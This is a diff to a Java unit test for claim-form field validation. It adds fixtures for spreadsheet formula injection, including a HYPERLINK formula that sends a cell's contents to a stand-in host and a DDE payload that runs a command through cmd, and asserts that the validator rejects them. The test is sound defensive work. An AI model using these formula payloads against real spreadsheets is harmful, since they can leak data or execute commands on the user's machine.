@@ -42,7 +42,16 @@ class ClaimFieldTest {
             assertThat(broken(field, "   ").rule()).isEqualTo("must not be blank");
             assertThat(broken(field, null).rule()).isEqualTo("must not be blank");
             assertThat(broken(field, "Maria\tGarcia").rule()).contains("one line");
+            // what a spreadsheet opening an export would run: never taken in, so never written out
+            for (String formula : new String[] {"=HYPERLINK(\"https://x.example/?d=\"&F2,\"Open\")", "+1+1", "-2+3",
+                    "@SUM(A1)", " =cmd|' /C calc'!A0"}) {
+                assertThat(broken(field, formula).rule()).as(formula)
+                        .isEqualTo("must not start with =, +, - or @ (a spreadsheet would take it for a formula)");
+            }
+            assertThat(ok(field, "Smith = Jones Trust")).isEqualTo("Smith = Jones Trust");
         }
+        assertThat(broken(ClaimField.CLAIMANT_ADDRESS, "=1+1").rule()).contains("formula");
+        assertThat(ok(ClaimField.CLAIMANT_PHONE, "+1 916 555 0142")).as("a phone's own rule").isNotNull();
     }
 
     @Test
